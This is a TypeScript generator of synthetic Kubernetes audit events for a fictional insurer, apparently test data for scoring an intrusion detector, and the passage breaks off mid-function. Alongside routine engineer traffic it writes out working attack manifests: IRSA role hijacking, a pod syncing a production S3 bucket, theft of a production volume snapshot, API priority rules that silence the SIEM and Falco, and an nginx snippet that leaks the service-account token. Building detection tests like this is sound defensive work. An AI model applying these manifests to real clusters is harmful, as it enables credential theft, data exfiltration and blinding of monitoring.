import { attackKit, type DayEvent, jitteredSittings, lastScoredOf, LINUX, type Login, MAC, prng, pushSteps, restartPatch, type StaffMember, type Step, WIN, withAttacks } from './workday.js';

/**
 * A twenty-sixth replayed day, written as an outside red team and an outside observer of real
 * engineers would after reading docs/risk.md and docs/guardrails.md, from situations days 1–25 do
 * not have: an insurer (Harbourline, London) in the second week after it bought an insurtech
 * (Quillbridge, Bristol). Quillbridge's workloads were moved into `qb-*` namespaces of Harbourline's
 * EKS cluster (`kubernetes.prod.harbourline.example`) the week before; its engineers reach it
 * through Harbourline's gateway from the warm-up day on, first with the accounts of Quillbridge's
 * identity provider (federated into Harbourline's), and from 13:00 on the scored day with their new
 * Harbourline accounts (the federation's cut-over: another subject, the same people, laptops and
 * networks). Workloads reach AWS with IAM roles for service accounts (IRSA: a ServiceAccount's
 * `eks.amazonaws.com/role-arn` annotation, and EKS's webhook that adds a projected token for
 * `sts.amazonaws.com` to its pods). Access to the policy-administration system's production
 * namespace is just-in-time: an in-house access broker (`access.harbourline.example`
 * AccessRequests, created and approved with its kubectl plugin; the broker's controller binds the
 * role on approval and unbinds it at expiry). Warm-up Tuesday 19 January 2027, scored Wednesday
 * 20 January (hours UTC, which is London's in January).
 *
 * Routine, as the tools send it:
 * - claims engineers (three): claims-api's pods, logs and events in production and staging, a
 *   staging Secret, a shell in staging, `rollout restart` in production;
 * - the data team (two): the claims ETL's CronJobs, Jobs and logs in `claims-etl-prod` and
 *   staging, the claims database's pods and volumes in `claims-prod` read;
 * - Quillbridge's engineers (three, Bristol's office /24 and home; their laptops' older kubectl,
 *   v1.29): quotes and pricing in `qb-quotes-prod`, `qb-quotes-staging` and `qb-pricing-dev`, and
 *   at 13:00 on the scored day a fresh sign-in with the new account;
 * - the platform engineer: on the warm-up day the Quillbridge namespaces' ServiceAccounts
 *   annotated with their IAM roles (`kubectl annotate sa … eks.amazonaws.com/role-arn=…`); every
 *   day nodes, Karpenter's NodePools, the access broker's pods;
 * - the on-call (office by day, home in the evening): every production namespace, and at 09:55
 *   the vendor's access request approved with the broker's plugin (`kubectl access approve`);
 * - the policy-administration vendor's support engineer (their office, Windows): an access request
 *   at 09:50, then two hours in `policy-admin-prod` (pods, logs, a ConfigMap, a restart of the
 *   batch Deployment);
 * - CI: the runner's service account deploying claims-api to staging every 20 minutes.
 *
 * The attacks, each of a kind days 1–25 do not have:
 * - a ServiceAccount in staging annotated with production's IAM role (IRSA), then its Deployment
 *   restarted so that the pods get that role (claims laptop);
 * - a pod in a dev namespace with a hand-written projected token for `sts.amazonaws.com` and
 *   production's role in `AWS_ROLE_ARN`: IRSA without the annotation (Quillbridge laptop);
 * - a production database volume's snapshot brought into a sandbox namespace through a
 *   pre-provisioned VolumeSnapshotContent, then restored into a PVC a pod mounts (data laptop);
 * - the API server's priority and fairness set to reject the SIEM forwarder's and Falco's requests
 *   (a PriorityLevelConfiguration and a FlowSchema), then production's Secrets (on-call's home laptop);
 * - a just-in-time access request for `policy-admin-prod` created and approved by the same token
 *   (the broker's plugin), then that namespace's Secrets (claims laptop);
 * - the access broker's leader-election Lease taken for a year by a holder that does not exist, so
 *   that no grant expires (platform laptop);
 * - an Ingress in Quillbridge's staging namespace whose ingress-nginx `server-snippet` returns the
 *   controller's service-account token (Quillbridge laptop).
 */

export const D26_TUE = Date.UTC(2027, 0, 19, 0, 0, 0); // warm-up
export const D26_WED = Date.UTC(2027, 0, 20, 0, 0, 0); // scored
const [H, M, S] = [3_600_000, 60_000, 1000];

export const API = 'kubernetes.prod.harbourline.example';
/** Harbourline's London office (trusted in the example? no: a /24 of its own, learned). */
export const LDN_OFFICE = (n: number) => `194.60.12.${20 + (n % 200)}`;
/** Quillbridge's Bristol office, which joined the gateway on the warm-up day. */
export const BRS_OFFICE = (n: number) => `81.145.77.${30 + (n % 100)}`;
/** The policy-administration vendor's support office. */
export const VENDOR_NET = '62.252.140.17';
export const KUBECTL = (os: string, v = 'v1.31.4', commit = 'a78aa47') => `kubectl/${v} (${os}) kubernetes/${commit}`;
/** Quillbridge's laptops still ship kubectl 1.29. */
export const QB_KUBECTL = (os: string) => KUBECTL(os, 'v1.29.10', '0fa26ae');
/** The access broker's kubectl plugin (client-go's default agent: the binary's name). */
export const ACCESS_PLUGIN = (os: string) => `kubectl-access/v0.4.1 (${os}) kubernetes/$Format`;
export const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
export const MERGE = { 'content-type': 'application/merge-patch+json' };
export const JSON_CT = { 'content-type': 'application/json' };

export const ACCOUNT = '441177203958';
export const ROLE = (name: string) => `arn:aws:iam::${ACCOUNT}:role/${name}`;
const BROKER = '/apis/access.harbourline.example/v1alpha1/namespaces/access-requests/accessrequests';

type Kind = 'claims' | 'data' | 'qb' | 'platform' | 'oncall' | 'vendor';
type Where = 'office' | 'home';

interface Person extends StaffMember<Where> {
  short: string;
  kind: Kind;
  home: string;
  /** Quillbridge's account (before the cut-over) and Harbourline's (after). */
  qbName?: string;
}

const CO = 'harbourline.example';

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, kind: Kind, day: [number, number, Where][], home: string, o: Partial<Person> = {}) => {
    const idx = out.length;
    out.push({ name: `d26-${short}@${CO}`, short, idx, svc: kind, kind, os: MAC, kubectlOs: 'darwin/arm64', kubectlVersion: 'v1.31.4', home, warm: jitteredSittings(rand, day), scored: jitteredSittings(rand, day), ...o });
  };
  add('claims-1', 'claims', [[8.5, 12.5, 'office'], [13.5, 17.5, 'office']], '86.12.40.77');
  add('claims-2', 'claims', [[8, 12, 'home'], [13, 17, 'office']], '81.98.201.14');
  add('claims-3', 'claims', [[9, 13, 'office'], [14, 18, 'office']], '92.40.177.3', { os: LINUX, kubectlOs: 'linux/amd64' });
  add('data-1', 'data', [[8.5, 12.5, 'office'], [13.5, 17, 'office']], '86.3.119.250');
  add('data-2', 'data', [[9.5, 13, 'home'], [14, 18, 'home']], '109.150.22.61', { os: WIN, kubectlOs: 'windows/amd64' });
  const qb = (short: string, day: [number, number, Where][], home: string, o: Partial<Person>) =>
    add(short, 'qb', day, home, { qbName: `d26-${short}@quillbridge.example`, kubectlVersion: 'v1.29.10', ...o });
  qb('qb-1', [[8.5, 12.5, 'office'], [13.5, 17.5, 'office']], '82.19.55.140', { os: WIN, kubectlOs: 'windows/amd64' });
  qb('qb-2', [[9, 12.5, 'office'], [13.5, 17.5, 'office']], '31.52.7.208', { os: LINUX, kubectlOs: 'linux/amd64' });
  qb('qb-3', [[9, 12.75, 'home'], [13.75, 18, 'home']], '77.99.160.38', {});
  add('platform', 'platform', [[8, 12, 'office'], [13, 17, 'office']], '86.28.91.200', { os: LINUX, kubectlOs: 'linux/amd64' });
  add('oncall', 'oncall', [[8, 12.5, 'office'], [13.5, 17, 'office'], [19.5, 22, 'home']], '90.214.6.118');
  // The vendor's window is the broker's, not a habit: no jitter.
  add('vendor', 'vendor', [[9.8, 12, 'office']], VENDOR_NET, { os: WIN, kubectlOs: 'windows/amd64', warm: [[9.8, 12, 'office']], scored: [[9.8, 12, 'office']] });
  return out;
}

type Req = { method: string; path: string; headers?: Record<string, string>; body?: string; ua?: 'plugin' };

const RESTART = restartPatch;
const pod = (app: string, n: number) => `${app}-${(n * 7919).toString(36).slice(-5)}`;

function claimsTask(rand: () => number, t: number, n: number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/namespaces/claims-prod/pods?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/claims-prod/pods/${pod('claims-api', n)}/log?container=api&tailLines=500` }];
  if (k < 0.45) return [{ method: 'GET', path: '/api/v1/namespaces/claims-staging/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/claims-staging/events?limit=500' }];
  if (k < 0.55) return [{ method: 'GET', path: '/api/v1/namespaces/claims-staging/secrets/claims-db' }];
  if (k < 0.65) return [{ method: 'POST', path: `/api/v1/namespaces/claims-staging/pods/${pod('claims-api', n)}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true` }];
  if (k < 0.72) return [{ method: 'PATCH', path: '/apis/apps/v1/namespaces/claims-prod/deployments/claims-api?fieldManager=kubectl-rollout', headers: SMP, body: RESTART(t) }, { method: 'GET', path: '/apis/apps/v1/namespaces/claims-prod/deployments/claims-api' }];
  if (k < 0.85) return [{ method: 'GET', path: '/apis/apps/v1/namespaces/claims-prod/deployments?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/claims-prod/events?limit=500' }];
  return [{ method: 'GET', path: '/api/v1/namespaces/claims-staging/serviceaccounts/claims-api' }, { method: 'GET', path: '/api/v1/namespaces/claims-staging/configmaps/claims-api' }];
}

function dataTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/apis/batch/v1/namespaces/claims-etl-prod/cronjobs?limit=500' }, { method: 'GET', path: '/apis/batch/v1/namespaces/claims-etl-prod/jobs?limit=500' }];
  if (k < 0.5) return [{ method: 'GET', path: `/api/v1/namespaces/claims-etl-prod/pods/${pod('nightly-load', n)}/log?tailLines=500` }];
  if (k < 0.65) return [{ method: 'GET', path: '/api/v1/namespaces/claims-prod/pods?labelSelector=app%3Dclaims-db' }, { method: 'GET', path: '/api/v1/namespaces/claims-prod/persistentvolumeclaims?limit=500' }];
  if (k < 0.8) return [{ method: 'POST', path: '/apis/batch/v1/namespaces/claims-etl-staging/jobs?fieldManager=kubectl-create', headers: JSON_CT, body: JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: `manual-load-${(n * 104729).toString(36).slice(-5)}`, namespace: 'claims-etl-staging', annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' } }, spec: { template: { spec: { serviceAccountName: 'claims-etl', restartPolicy: 'Never', containers: [{ name: 'load', image: '441177203958.dkr.ecr.eu-west-2.amazonaws.com/claims-etl:3.8.2' }] } } } }) }];
  if (k < 0.9) return [{ method: 'GET', path: '/api/v1/namespaces/claims-etl-staging/secrets/warehouse' }];
  return [{ method: 'GET', path: '/api/v1/namespaces/claims-etl-staging/pods?limit=500' }];
}

function qbTask(rand: () => number, t: number, n: number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/namespaces/qb-quotes-prod/pods?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/qb-quotes-prod/pods/${pod('quotes-api', n)}/log?tailLines=500` }];
  if (k < 0.45) return [{ method: 'GET', path: '/api/v1/namespaces/qb-quotes-staging/pods?limit=500' }, { method: 'POST', path: `/api/v1/namespaces/qb-quotes-staging/pods/${pod('quotes-api', n)}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true` }];
  if (k < 0.55) return [{ method: 'GET', path: '/api/v1/namespaces/qb-quotes-staging/secrets/quotes-db' }];
  if (k < 0.7) return [{ method: 'GET', path: '/api/v1/namespaces/qb-pricing-dev/pods?limit=500' }, { method: 'PATCH', path: '/apis/apps/v1/namespaces/qb-pricing-dev/deployments/pricing-engine?fieldManager=kubectl-rollout', headers: SMP, body: RESTART(t) }];
  if (k < 0.8) return [{ method: 'GET', path: '/apis/networking.k8s.io/v1/namespaces/qb-quotes-staging/ingresses' }, { method: 'GET', path: '/api/v1/namespaces/qb-quotes-staging/services?limit=500' }];
  if (k < 0.9) return [{ method: 'PATCH', path: '/apis/apps/v1/namespaces/qb-quotes-prod/deployments/quotes-api?fieldManager=kubectl-rollout', headers: SMP, body: RESTART(t) }];
  return [{ method: 'GET', path: '/api/v1/namespaces/qb-pricing-dev/configmaps?limit=500' }];
}

function platformTask(rand: () => number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/nodes' }, { method: 'GET', path: '/apis/karpenter.sh/v1/nodepools' }];
  if (k < 0.5) return [{ method: 'GET', path: '/api/v1/namespaces/access-broker/pods?limit=500' }, { method: 'GET', path: '/apis/coordination.k8s.io/v1/namespaces/access-broker/leases/access-broker-controller' }];
  if (k < 0.7) return [{ method: 'GET', path: '/api/v1/namespaces/kube-system/pods?limit=500' }, { method: 'GET', path: '/apis/apps/v1/namespaces/kube-system/daemonsets' }];
  if (k < 0.85) return [{ method: 'GET', path: '/api/v1/serviceaccounts?limit=500' }];
  return [{ method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }];
}

const PROD = ['claims-prod', 'claims-etl-prod', 'qb-quotes-prod', 'policy-admin-prod'];

function oncallTask(rand: () => number, t: number, n: number): Req[] {
  const k = rand();
  const ns = PROD[Math.floor(rand() * PROD.length)]!;
  if (k < 0.45) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.65) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod('api', n)}/log?tailLines=500` }];
  if (k < 0.75) return [{ method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns === 'policy-admin-prod' ? 'claims-prod' : ns}/deployments/${ns === 'qb-quotes-prod' ? 'quotes-api' : 'claims-api'}?fieldManager=kubectl-rollout`, headers: SMP, body: RESTART(t) }];
  if (k < 0.85) return [{ method: 'GET', path: '/api/v1/nodes' }];
  return [{ method: 'GET', path: '/apis/apps/v1/deployments?limit=500' }];
}

function vendorTask(rand: () => number, t: number, n: number): Req[] {
  const k = rand();
  if (k < 0.4) return [{ method: 'GET', path: '/api/v1/namespaces/policy-admin-prod/pods?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/policy-admin-prod/pods/${pod('policy-admin-batch', n)}/log?tailLines=1000` }];
  if (k < 0.65) return [{ method: 'GET', path: '/api/v1/namespaces/policy-admin-prod/configmaps/policy-admin-config' }];
  if (k < 0.8) return [{ method: 'PATCH', path: '/apis/apps/v1/namespaces/policy-admin-prod/deployments/policy-admin-batch?fieldManager=kubectl-rollout', headers: SMP, body: RESTART(t) }];
  return [{ method: 'GET', path: '/api/v1/namespaces/policy-admin-prod/events?limit=500' }];
}

/** An access request as the broker's plugin creates it (`kubectl access request`). */
export function accessRequest(name: string, requester: string, ns: string, role: string, minutes: number, reason: string): object {
  return { apiVersion: 'access.harbourline.example/v1alpha1', kind: 'AccessRequest', metadata: { name, namespace: 'access-requests' }, spec: { requester, namespace: ns, role, durationMinutes: minutes, reason } };
}

/** `kubectl access approve <name>`: the plugin writes the approval to the request's status. */
export const approval = (approver: string) => JSON.stringify({ status: { state: 'Approved', approvedBy: approver } });

/** `kubectl annotate sa <sa> eks.amazonaws.com/role-arn=<role>`. */
export const roleAnnotation = (role: string) => JSON.stringify({ metadata: { annotations: { 'eks.amazonaws.com/role-arn': role } } });

export function workday26(seed = 241): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 26);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const [day, scored] of [[D26_TUE, false], [D26_WED, true]] as const) {
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const mine: DayEvent[] = [];
      const kubectl = p.kind === 'qb' ? QB_KUBECTL(p.kubectlOs) : KUBECTL(p.kubectlOs);
      let n = 0;
      let login: Login | undefined;
      let last = -Infinity;
      for (const [from, to, where] of scored ? p.scored : p.warm) {
        // Quillbridge's people sign in with Quillbridge's account until the cut-over at 13:00 on the
        // scored day, then with Harbourline's (the same person, laptop and networks).
        const sub = p.qbName !== undefined && !(scored && from >= 13) ? p.qbName : p.name;
        if (login === undefined || from - last > 2 || login.sub !== sub) login = { sub, sid: `${sub}:${day}:${Math.round(from * 10)}`, authTime: Math.floor((at(from) - 40 * S) / 1000), acr: 'urn:stepgate:aal2' };
        last = to;
        const l = login;
        const ip = where === 'office' ? (p.kind === 'qb' ? BRS_OFFICE(p.idx * 7) : p.kind === 'vendor' ? VENDOR_NET : LDN_OFFICE(p.idx * 11)) : p.home;
        let t = at(from) + M;
        if (p.kind === 'vendor') {
          // `kubectl access request` at 09:50; the on-call approves it at 09:55 (below); work from 10:00.
          const name = `vendor-${scored ? 'wed' : 'tue'}-${seed}`;
          mine.push({ at: at(9.83), actor: p.name, scored, ip, ua: ACCESS_PLUGIN(p.kubectlOs), login: l, method: 'POST', path: BROKER, headers: JSON_CT, body: JSON.stringify(accessRequest(name, p.name, 'policy-admin-prod', 'support-operator', 120, 'INC-4471 batch stuck on renewals')) });
          mine.push({ at: at(9.84), actor: p.name, scored, ip, ua: ACCESS_PLUGIN(p.kubectlOs), login: l, method: 'GET', path: `${BROKER}/${name}` });
          t = at(10) + M;
        }
        while (t < at(to)) {
          const reqs = p.kind === 'claims' ? claimsTask(rand, t, n) : p.kind === 'data' ? dataTask(rand, n) : p.kind === 'qb' ? qbTask(rand, t, n) : p.kind === 'platform' ? platformTask(rand) : p.kind === 'oncall' ? oncallTask(rand, t, n) : vendorTask(rand, t, n);
          n++;
          const gap = 1500 + rand() * 2500;
          reqs.forEach((q, i) => mine.push({ at: Math.round(t + i * gap), actor: p.name, scored, ip, ua: kubectl, login: l, method: q.method, path: q.path, host: API, ...(q.headers ? { headers: q.headers } : {}), ...(q.body !== undefined ? { body: q.body } : {}) }));
          t += 5 * M + rand() * 15 * M;
        }
      }
      const firstLogin = mine[0]?.login;
      if (p.kind === 'oncall' && firstLogin) {
        // 09:55: the vendor's request approved with the broker's plugin (a list, the request, the approval).
        const name = `vendor-${scored ? 'wed' : 'tue'}-${seed}`;
        const l = mine.filter((e) => e.at <= at(9.92)).pop()?.login ?? firstLogin;
        pushSteps(mine, { actor: p.name, scored, ip: LDN_OFFICE(p.idx * 11), ua: ACCESS_PLUGIN(p.kubectlOs), login: l, host: API }, at, [
          [9.9, 'GET', `${BROKER}?fieldSelector=status.state%3DPending`],
          [9.905, 'GET', `${BROKER}/${name}`],
          [9.91, 'PATCH', `${BROKER}/${name}/status`, MERGE, approval(p.name)],
        ]);
      }
      if (p.kind === 'platform' && !scored && firstLogin) {
        // Onboarding (warm-up day, 10:30): Quillbridge's ServiceAccounts get their IAM roles.
        const l = mine.filter((e) => e.at <= at(10.5)).pop()?.login ?? firstLogin;
        const sas: [string, string, string][] = [['qb-quotes-prod', 'quotes-api', 'qb-quotes-prod-api'], ['qb-quotes-staging', 'quotes-api', 'qb-quotes-staging-api'], ['qb-pricing-dev', 'pricing-engine', 'qb-pricing-dev-engine']];
        pushSteps(mine, { actor: p.name, scored, ip: LDN_OFFICE(p.idx * 11), ua: KUBECTL(p.kubectlOs), login: l, host: API }, at, sas.flatMap(([ns, sa, role], i): Step[] => [
          [10.5 + i / 60, 'GET', `/api/v1/namespaces/${ns}/serviceaccounts/${sa}`],
          [10.5 + i / 60 + 10 / 3600, 'PATCH', `/api/v1/namespaces/${ns}/serviceaccounts/${sa}?fieldManager=kubectl-annotate`, MERGE, roleAnnotation(ROLE(role))],
        ]));
      }
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    // The CI runner's service account: claims-api's staging image every 20 minutes, 08:00–18:00.
    const ci: Login = { sub: 'system:serviceaccount:ci:claims-deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
    for (let j = 0; j < 30; j++) {
      const t = day + 8 * H + j * 20 * M;
      const base = { actor: 'ci', scored, ip: `10.40.${j % 2}.${30 + ((j * 7) % 40)}`, ua: KUBECTL('linux/amd64', 'v1.30.6', '00f20d4'), login: ci, host: API };
      events.push({ ...base, at: t, method: 'PATCH', path: '/apis/apps/v1/namespaces/claims-staging/deployments/claims-api?fieldManager=kubectl-set', headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: `${ACCOUNT}.dkr.ecr.eu-west-2.amazonaws.com/claims-api:${(seed * 7919 + j * 104729 + (scored ? 1 : 0)).toString(16).slice(0, 7)}` }] } } } }) });
      events.push({ ...base, at: t + 30 * S, method: 'GET', path: '/apis/apps/v1/namespaces/claims-staging/deployments/claims-api' });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks26(people, events, seed));
}

/** A pod that reaches AWS as production's role without the ServiceAccount's annotation: the projected token and the SDK's variables written by hand. */
export function irsaByHandPod(ns: string, role: string): object {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'pricing-backfill', namespace: ns },
    spec: {
      serviceAccountName: 'pricing-engine',
      containers: [{
        name: 'backfill',
        image: 'public.ecr.aws/aws-cli/aws-cli:2.22.10',
        command: ['sh', '-c', 'aws s3 sync s3://harbourline-claims-documents-prod /tmp/d && sleep 3600'],
        env: [{ name: 'AWS_ROLE_ARN', value: role }, { name: 'AWS_WEB_IDENTITY_TOKEN_FILE', value: '/var/run/secrets/eks.amazonaws.com/serviceaccount/token' }, { name: 'AWS_REGION', value: 'eu-west-2' }],
        volumeMounts: [{ name: 'aws-iam-token', mountPath: '/var/run/secrets/eks.amazonaws.com/serviceaccount', readOnly: true }],
      }],
      volumes: [{ name: 'aws-iam-token', projected: { sources: [{ serviceAccountToken: { audience: 'sts.amazonaws.com', expirationSeconds: 86400, path: 'token' } }] } }],
    },
  };
}

/** A VolumeSnapshot of a claim, or of a pre-provisioned content (`volumeSnapshotContentName`). */
export function volumeSnapshot(ns: string, name: string, source: { persistentVolumeClaimName: string } | { volumeSnapshotContentName: string }): object {
  return { apiVersion: 'snapshot.storage.k8s.io/v1', kind: 'VolumeSnapshot', metadata: { name, namespace: ns }, spec: { volumeSnapshotClassName: 'ebs-csi', source } };
}

/** A pre-provisioned VolumeSnapshotContent: an EBS snapshot's id, bound to a VolumeSnapshot of another namespace. */
export function snapshotContent(name: string, handle: string, ns: string, snap: string): object {
  return { apiVersion: 'snapshot.storage.k8s.io/v1', kind: 'VolumeSnapshotContent', metadata: { name }, spec: { deletionPolicy: 'Retain', driver: 'ebs.csi.aws.com', source: { snapshotHandle: handle }, volumeSnapshotClassName: 'ebs-csi', volumeSnapshotRef: { name: snap, namespace: ns } } };
}

/** API priority and fairness: a level that rejects everything over one seat, and a schema sending the security tools' service accounts to it. */
export function starvingLevel(name: string): object {
  return { apiVersion: 'flowcontrol.apiserver.k8s.io/v1', kind: 'PriorityLevelConfiguration', metadata: { name }, spec: { type: 'Limited', limited: { nominalConcurrencyShares: 1, lendablePercent: 0, limitResponse: { type: 'Reject' } } } };
}
export function starvingSchema(name: string, level: string, subjects: [string, string][]): object {
  return {
    apiVersion: 'flowcontrol.apiserver.k8s.io/v1',
    kind: 'FlowSchema',
    metadata: { name },
    spec: {
      priorityLevelConfiguration: { name: level },
      matchingPrecedence: 200,
      distinguisherMethod: { type: 'ByUser' },
      rules: [{ subjects: subjects.map(([namespace, n]) => ({ kind: 'ServiceAccount', serviceAccount: { namespace, name: n } })), resourceRules: [{ verbs: ['*'], apiGroups: ['*'], resources: ['*'], clusterScope: true, namespaces: ['*'] }], nonResourceRules: [{ verbs: ['*'], nonResourceURLs: ['*'] }] }],
    },
  };
}

/** A leader-election Lease held by a name no replica has, for a year. */
export function heldLease(ns: string, name: string, at: number): object {
  const now = new Date(at).toISOString().replace('Z', '000Z');
  return { apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name, namespace: ns, resourceVersion: '88412907' }, spec: { holderIdentity: 'access-broker-controller-6d9f7c-x2hqz_0b1c', leaseDurationSeconds: 31_536_000, acquireTime: now, renewTime: now, leaseTransitions: 14 } };
}

/** An Ingress whose ingress-nginx server snippet answers with the controller's own service-account token. */
export function tokenSnippetIngress(ns: string): object {
  return {
    apiVersion: 'networking.k8s.io/v1',
    kind: 'Ingress',
    metadata: { name: 'quotes-healthz', namespace: ns, annotations: { 'nginx.ingress.kubernetes.io/server-snippet': 'location /hz { content_by_lua_block { ngx.say(io.open("/var/run/secrets/kubernetes.io/serviceaccount/token"):read("*a")) } }' } },
    spec: { ingressClassName: 'nginx', rules: [{ host: 'quotes-staging.quillbridge.example', http: { paths: [{ path: '/hz', pathType: 'Prefix', backend: { service: { name: 'quotes-api', port: { number: 8080 } } } }] } }] },
  };
}

function attacks26(people: Person[], routine: DayEvent[], seed: number): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on } = attackKit(out, people, D26_WED, API);
  const kubectlOf = (x: DayEvent) => x.ua.startsWith('kubectl/');

  // 1. Malware on claims-1's laptop at 14:20: claims-api's staging ServiceAccount annotated with
  // production's IAM role (whose trust policy, as many do, admits any ServiceAccount of the
  // cluster's OIDC provider: `StringLike sub system:serviceaccount:*`), then the staging Deployment
  // restarted so that EKS's webhook gives its new pods production's role. claims-1 reads that
  // ServiceAccount and restarts claims-api every day.
  const c1 = by('claims-1');
  const v1 = lastScoredOf(routine, c1.name, T(14.33), kubectlOf);
  add("claims-api's staging ServiceAccount annotated with production's IAM role, then restarted (IRSA, claims laptop)", T(14.33), v1.ip, v1.ua, v1.login, on([
    ['GET', '/api/v1/namespaces/claims-staging/serviceaccounts/claims-api', false],
    ['PATCH', '/api/v1/namespaces/claims-staging/serviceaccounts/claims-api?fieldManager=kubectl-annotate', true, MERGE, roleAnnotation(ROLE('claims-api-prod'))],
    ['PATCH', '/apis/apps/v1/namespaces/claims-staging/deployments/claims-api?fieldManager=kubectl-rollout', true, SMP, RESTART(T(14.34))],
  ]), 8 * S, c1);

  // 2. Malware on qb-2's laptop at 10:40 (Quillbridge's account still): a pod in the pricing dev
  // namespace with the projected token EKS's webhook would add (`sts.amazonaws.com`) and production
  // claims documents' role in AWS_ROLE_ARN: the AWS SDK assumes it with no annotation anywhere.
  const q2 = by('qb-2');
  const v2 = lastScoredOf(routine, q2.name, T(10.66), kubectlOf);
  add('a dev pod with a hand-written projected token for sts.amazonaws.com and production\'s IAM role (Quillbridge laptop)', T(10.66), v2.ip, v2.ua, v2.login, on([
    ['POST', '/api/v1/namespaces/qb-pricing-dev/pods?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify(irsaByHandPod('qb-pricing-dev', ROLE('claims-documents-prod-reader')))],
  ]), 5 * S, q2);

  // 3. Malware on data-1's laptop at 15:10: a snapshot of the claims database's volume in
  // production (whose pods and claims data-1 reads daily), its EBS snapshot id read from the
  // VolumeSnapshotContent, a pre-provisioned content naming that id bound into the data sandbox,
  // the sandbox's VolumeSnapshot, a PVC restored from it and a pod that mounts it.
  const d1 = by('data-1');
  const v3 = lastScoredOf(routine, d1.name, T(15.16), kubectlOf);
  const handle = `snap-0${(seed * 2_654_435).toString(16).padStart(16, '7').slice(0, 16)}`;
  add("a production database volume's snapshot brought into a sandbox namespace through a pre-provisioned VolumeSnapshotContent (data laptop)", T(15.16), v3.ip, v3.ua, v3.login, on([
    ['POST', '/apis/snapshot.storage.k8s.io/v1/namespaces/claims-prod/volumesnapshots?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify(volumeSnapshot('claims-prod', 'claims-db-0-pre-maint', { persistentVolumeClaimName: 'data-claims-db-0' }))],
    ['GET', '/apis/snapshot.storage.k8s.io/v1/volumesnapshotcontents?limit=500', false],
    ['POST', '/apis/snapshot.storage.k8s.io/v1/volumesnapshotcontents?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify(snapshotContent('sandbox-restore-1', handle, 'data-sandbox', 'claims-copy'))],
    ['POST', '/apis/snapshot.storage.k8s.io/v1/namespaces/data-sandbox/volumesnapshots?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify(volumeSnapshot('data-sandbox', 'claims-copy', { volumeSnapshotContentName: 'sandbox-restore-1' }))],
    ['POST', '/api/v1/namespaces/data-sandbox/persistentvolumeclaims?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: { name: 'claims-copy', namespace: 'data-sandbox' }, spec: { accessModes: ['ReadWriteOnce'], storageClassName: 'gp3', resources: { requests: { storage: '200Gi' } }, dataSource: { apiGroup: 'snapshot.storage.k8s.io', kind: 'VolumeSnapshot', name: 'claims-copy' } } })],
    ['POST', '/api/v1/namespaces/data-sandbox/pods?fieldManager=kubectl-run', true, JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'pg-dump', namespace: 'data-sandbox' }, spec: { containers: [{ name: 'pg', image: 'docker.io/library/postgres:16', volumeMounts: [{ name: 'd', mountPath: '/var/lib/postgresql/data' }] }], volumes: [{ name: 'd', persistentVolumeClaim: { claimName: 'claims-copy' } }] } })],
  ]), 20 * S, d1);

  // 4. Malware on the on-call's home laptop at 20:40: the API server's priority and fairness made
  // to reject every request of the SIEM's audit forwarder and of Falco (blinding them), then the
  // Secrets of two production namespaces the on-call works in.
  const oc = by('oncall');
  const v4 = lastScoredOf(routine, oc.name, T(20.66), kubectlOf);
  add("API priority and fairness set to reject the SIEM forwarder's and Falco's requests, then production's Secrets (on-call's home laptop)", T(20.66), v4.ip, v4.ua, v4.login, on([
    ['POST', '/apis/flowcontrol.apiserver.k8s.io/v1/prioritylevelconfigurations?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify(starvingLevel('workload-background'))],
    ['POST', '/apis/flowcontrol.apiserver.k8s.io/v1/flowschemas?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify(starvingSchema('workload-background', 'workload-background', [['security', 'audit-forwarder'], ['falco', 'falco'], ['falco', 'falcosidekick']]))],
    ['GET', '/api/v1/namespaces/claims-prod/secrets', true],
    ['GET', '/api/v1/namespaces/qb-quotes-prod/secrets', true],
  ]), 15 * S, oc);

  // 5. Malware on claims-2's laptop at 15:30: an access request for the support-operator role in
  // policy-admin-prod made with the broker's plugin, approved with the same token a minute later
  // (the approvers' role is every engineer's, and the broker records the approver the status
  // names), then the namespace's Secrets once the broker has bound the role.
  const c2 = by('claims-2');
  const v5 = lastScoredOf(routine, c2.name, T(15.5), kubectlOf);
  const own = `claims-2-${seed}`;
